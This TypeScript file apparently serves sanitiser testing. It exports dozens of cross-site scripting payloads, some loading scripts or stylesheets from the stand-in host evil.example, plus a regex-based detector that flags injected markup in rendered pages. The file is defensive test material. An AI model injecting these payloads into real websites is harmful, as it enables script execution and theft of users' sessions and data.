/** Classic cross-site scripting vectors, in HTML, attribute, URL and markdown flavours. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '[x](https://ok.example" onmouseover="alert(1))',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  "{{constructor.constructor('alert(1)')()}}",
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

/** True when a page carries markup an attacker could have injected. */
export function injectedMarkup(html: string): string[] {
  const page = html
    // Our own scripts and stylesheet.
    .replace(/<script type="module" src="\/assets\/[^"]+"><\/script>/g, '')
    .replace(/<link rel="(stylesheet|icon)" href="\/assets\/[^"]+"( type="image\/svg\+xml")?>/g, '');
  const findings: string[] = [];
  // Only real tags matter: escaped text (&lt;img …&gt;) is inert whatever it says.
  const tags = page.match(/<[a-zA-Z][a-zA-Z0-9-]*\b[^>]*>/g) ?? [];
  const checks: Array<[string, RegExp]> = [
    ['script tag', /^<script/i],
    ['event handler attribute', /\son[a-z]+\s*=/i],
    [
      'dangerous URL',
      /\s(href|src|action|formaction|data|xlink:href)\s*=\s*["']?\s*(javascript|vbscript|data:text\/html)/i,
    ],
    ['embedding element', /^<(iframe|object|embed|svg|math|style|base|link)\b/i],
    ['meta refresh', /^<meta[^>]*http-equiv/i],
    ['inline style', /\sstyle\s*=/i],
  ];
  for (const tag of tags) {
    for (const [label, pattern] of checks) if (pattern.test(tag)) findings.push(`${label}: ${tag}`);
  }
  return findings;
}
